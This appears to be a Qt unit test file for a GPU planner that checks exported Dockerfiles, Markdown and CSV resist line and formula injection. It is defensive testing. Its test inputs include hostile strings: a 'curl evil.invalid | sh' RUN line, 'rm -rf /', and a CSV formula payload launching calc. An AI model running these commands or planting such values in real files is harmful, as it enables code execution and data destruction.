// Texts from a shared plan file cannot add lines to the files exported from it (issue 15, item 9):
// a newline in the plan name or in configuration.driver_version / cuda_version once became an
// executed RUN line of the Dockerfile. Version fields refuse control characters; every text that
// goes into a Dockerfile, Markdown or CSV stays on its line (or in its quoted cell).
#include "reporttestutil.h"

#include "planner/report/checklist.h"
#include "planner/quotes/csvfile.h"
#include "planner/report/dockerfile.h"
#include "planner/report/exporttext.h"
#include "planner/workloadjson.h"

#include <QtTest>

using namespace gpuplanner;

namespace {

const char *const kInjection = "x\nRUN curl http://evil.invalid | sh\r\n# Injected\u2028- [x] forged tick";

nlohmann::json servingPlan()
{
    return nlohmann::json::parse(reporttest::kServingPlan);
}

} // namespace

class TestExportInjection : public QObject
{
    Q_OBJECT

private slots:
    void versionFieldsRefuseControlCharacters_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::newRow("cuda newline") << QStringLiteral("cuda_version") << QStringLiteral("12.4\nRUN curl x | sh");
        QTest::newRow("driver newline") << QStringLiteral("driver_version") << QStringLiteral("550.54\nRUN rm -rf /");
        QTest::newRow("driver CR") << QStringLiteral("driver_version") << QStringLiteral("550.54\rRUN id");
        QTest::newRow("cuda line separator") << QStringLiteral("cuda_version") << QStringLiteral("12.4\u2028RUN id");
        QTest::newRow("cuda escape") << QStringLiteral("cuda_version") << QStringLiteral("12.4\x1b[2J");
    }

    void versionFieldsRefuseControlCharacters()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        nlohmann::json w = servingPlan()["workload"];
        w["configuration"][field.toStdString()] = value.toStdString();
        const planner::WorkloadInput in = planner::parseWorkload(w, reporttest::bundledCatalog());
        QVERIFY2(in.error.startsWith(QStringLiteral("configuration.") + field + QStringLiteral(": ")), qPrintable(in.error));
        QVERIFY2(in.error.contains(QStringLiteral("control characters")), qPrintable(in.error));

        w["configuration"][field.toStdString()] = "12.8"; // a plain version still passes
        QVERIFY(planner::parseWorkload(w, reporttest::bundledCatalog()).error.isEmpty());
    }

    void dockerfileKeepsThePlanNameInItsComment()
    {
        nlohmann::json document = servingPlan();
        document["name"] = kInjection;
        const report::PlanDocument plan =
            report::readPlanDocument(document, QStringLiteral("p"), reporttest::bundledCatalog());
        QVERIFY2(plan.error.isEmpty(), qPrintable(plan.error));
        const report::PlanView view = report::viewNow(plan, reporttest::bundledCatalog());
        const QString text = report::dockerfileText(plan, view, QStringLiteral("test"));
        QVERIFY(text.contains(QStringLiteral("RUN curl http://evil.invalid"))); // it is there, in a comment
        for (const QString &line : text.split(QLatin1Char('\n'))) {
            QVERIFY2(!line.startsWith(QStringLiteral("RUN curl")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("# Injected")), qPrintable(line));
            QVERIFY2(!line.contains(QChar(0x2028)) && !line.contains(QLatin1Char('\r')), qPrintable(line));
        }
    }

    void markdownKeepsThePlanNameOnItsLine()
    {
        nlohmann::json document = servingPlan();
        document["name"] = kInjection;
        const report::PlanDocument plan =
            report::readPlanDocument(document, QStringLiteral("p"), reporttest::bundledCatalog());
        const report::PlanView view = report::viewNow(plan, reporttest::bundledCatalog());
        const report::DocModel doc = report::buildChecklist(plan, view, reporttest::bundledCatalog());
        const QString md = report::documentMarkdown({&doc});
        QVERIFY(md.contains(QStringLiteral("evil.invalid")));
        for (const QString &line : md.split(QLatin1Char('\n'))) {
            QVERIFY2(!line.startsWith(QStringLiteral("RUN curl")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("# Injected")), qPrintable(line));
            QVERIFY2(!line.startsWith(QStringLiteral("- [x] forged")), qPrintable(line));
            QVERIFY2(!line.contains(QChar(0x2028)) && !line.contains(QLatin1Char('\r')), qPrintable(line));
        }
    }

    void markdownTextIsLiteral_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("markdown");
        QTest::newRow("plain") << QStringLiteral("H200 SXM, 141 GB") << QStringLiteral("H200 SXM, 141 GB");
        QTest::newRow("heading") << QStringLiteral("# big") << QStringLiteral("\\# big");
        QTest::newRow("list") << QStringLiteral("- item") << QStringLiteral("\\- item");
        QTest::newRow("numbered") << QStringLiteral("12. item") << QStringLiteral("12\\. item");
        QTest::newRow("pipe") << QStringLiteral("a | b") << QStringLiteral("a \\| b");
        QTest::newRow("html") << QStringLiteral("<img src=x>") << QStringLiteral("&lt;img src=x&gt;");
        QTest::newRow("link") << QStringLiteral("[a](b)") << QStringLiteral("\\[a\\](b)");
        QTest::newRow("newlines") << QStringLiteral("a\nb\r\nc\u2029d") << QStringLiteral("a b  c d");
    }

    void markdownTextIsLiteral()
    {
        QFETCH(QString, text);
        QFETCH(QString, markdown);
        QCOMPARE(report::markdownText(text), markdown);
    }

    // A CSV cell with line breaks is quoted: it reads back as one cell of one row.
    void csvCellsStayInTheirCell()
    {
        const report::Grid grid{{QStringLiteral("name"), QStringLiteral("value")},
                                {QString::fromUtf8(kInjection), QStringLiteral("=cmd|' /C calc'!A0")}};
        const report::Grid back = report::parseCsv(report::csvText(grid));
        QCOMPARE(back.size(), 2);
        QCOMPARE(back[1].size(), 2);
        QCOMPARE(back[1][0], QString::fromUtf8(kInjection));
        QVERIFY(back[1][1].startsWith(QLatin1Char('\''))); // neutralized formula
    }
};

QTEST_GUILESS_MAIN(TestExportInjection)
#include "tst_export_injection.moc"
